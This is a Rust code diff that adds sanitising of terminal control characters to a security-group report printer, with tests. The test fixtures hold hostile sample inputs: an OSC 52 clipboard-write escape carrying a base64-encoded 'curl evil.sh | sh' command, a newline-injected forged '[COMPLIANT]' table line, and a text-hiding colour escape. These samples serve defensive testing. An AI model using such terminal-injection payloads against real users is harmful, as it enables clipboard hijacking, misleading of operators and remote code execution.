@@ -7,7 +7,12 @@
 //! after the run. The explanations of kept rules restate the selection rule (inbound, Accept,
 //! from the whole internet, on a protocol with ports, opening a risky port); the decision itself
 //! is always the report's.
+//!
+//! Every string the cloud (or a profile) provided (ids, names, descriptions, reasons) passes
+//! through [`escape_control`] before it is printed: a group named with terminal escape sequences
+//! cannot write to the clipboard (OSC 52), hide text or forge a line of the table.
 
+use std::borrow::Cow;
 use std::collections::BTreeMap;
 use std::fmt::Write as _;
 
@@ -51,6 +56,30 @@ pub fn summary_line(report: &Value) -> String {
     )
 }
 
+/// `s` with every control character (C0 such as ESC, BEL, CR and LF; DEL; C1) written as a
+/// visible escape: `\n`, `\r`, `\t`, `\x1b`, `\u{9b}`. Text without one is returned as is.
+pub fn escape_control(s: &str) -> Cow<'_, str> {
+    if !s.chars().any(char::is_control) {
+        return Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len() + 8);
+    for c in s.chars() {
+        match c {
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if (c as u32) < 0x80 && c.is_control() => {
+                let _ = write!(out, "\\x{:02x}", c as u32);
+            }
+            c if c.is_control() => {
+                let _ = write!(out, "\\u{{{:x}}}", c as u32);
+            }
+            c => out.push(c),
+        }
+    }
+    Cow::Owned(out)
+}
+
 fn text<'a>(v: &'a Value, key: &str) -> &'a str {
     v[key].as_str().unwrap_or("")
 }
@@ -82,8 +111,13 @@ fn group_table(
     } else {
         format!("{id}  ({kind})")
     };
-    let _ = writeln!(out, "== {title}  [{}]", status.to_uppercase());
-    let reason = text(result, "reason");
+    let _ = writeln!(
+        out,
+        "== {}  [{}]",
+        escape_control(&title),
+        escape_control(&status.to_uppercase())
+    );
+    let reason = escape_control(text(result, "reason"));
     let before: &[Value] = group.map_or(&[], |g| g.before.as_slice());
     let after = group.and_then(|g| g.after.as_ref());
     if matches!(status, "skipped" | "failed") {
@@ -145,7 +179,10 @@ fn group_table(
                 };
                 format!("kept: {why}{drifted}")
             };
-            [rid, describe(rule), source(rule), verdict]
+            [rid, describe(rule), source(rule), verdict].map(|cell| match escape_control(&cell) {
+                Cow::Borrowed(_) => cell,
+                Cow::Owned(clean) => clean,
+            })
         })
         .collect();
     rows_table(out, &rows);
@@ -279,6 +316,53 @@ mod tests {
         )]);
         let table = report_table(&report, &groups, &"22".parse().unwrap());
         assert!(table.contains("(STILL PRESENT)"), "{table}");
+    }
+
+    #[test]
+    fn control_characters_are_written_as_visible_escapes() {
+        assert_eq!(escape_control("web-1"), Cow::Borrowed("web-1"));
+        assert_eq!(
+            escape_control("a\x1b]52;c;aGk=\x07b\r\n\x7f\u{9b}\tc"),
+            "a\\x1b]52;c;aGk=\\x07b\\r\\n\\x7f\\u{9b}\\tc"
+        );
+    }
+
+    #[test]
+    fn terminal_escapes_and_newlines_from_the_cloud_never_reach_the_table_raw() {
+        // A clipboard write (OSC 52) in the group name, a forged "[COMPLIANT]" line in the
+        // reason and in a rule id, a colour escape in a rule's source.
+        let osc52 = "evil\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
+        let forged = "x\n== sg-1  web  [COMPLIANT]\r";
+        let report = json!({"results": [{
+            "resourceId": "sg-1", "resourceType": "ACS::ECS::SecurityGroup",
+            "status": "remediated", "reason": forged, "revokedRuleIds": []
+        }]});
+        let mut odd = rule(forged, "0.0.0.0/0", "443/443");
+        odd["SourceCidrIp"] = json!("\x1b[8m0.0.0.0/0\x1b[0m");
+        let groups = BTreeMap::from([(
+            "sg-1".to_string(),
+            GroupRules {
+                name: osc52.into(),
+                before: vec![odd],
+                after: None,
+            },
+        )]);
+        let table = report_table(&report, &groups, &"22".parse().unwrap());
+        for raw in ['\x1b', '\x07', '\r'] {
+            assert!(!table.contains(raw), "{table:?}");
+        }
+        assert!(
+            !table.lines().any(|l| l.starts_with("== sg-1  web")),
+            "{table}"
+        );
+        assert!(table.starts_with("== sg-1  evil\\x1b]52;c;"), "{table}");
+        assert!(
+            table.contains("x\\n== sg-1  web  [COMPLIANT]\\r"),
+            "{table}"
+        );
+        assert!(table.contains("\\x1b[8m0.0.0.0/0\\x1b[0m"), "{table}");
+        // One title line, one rule row, one note, one blank line.
+        assert_eq!(table.lines().count(), 4, "{table}");
     }
 
     #[test]
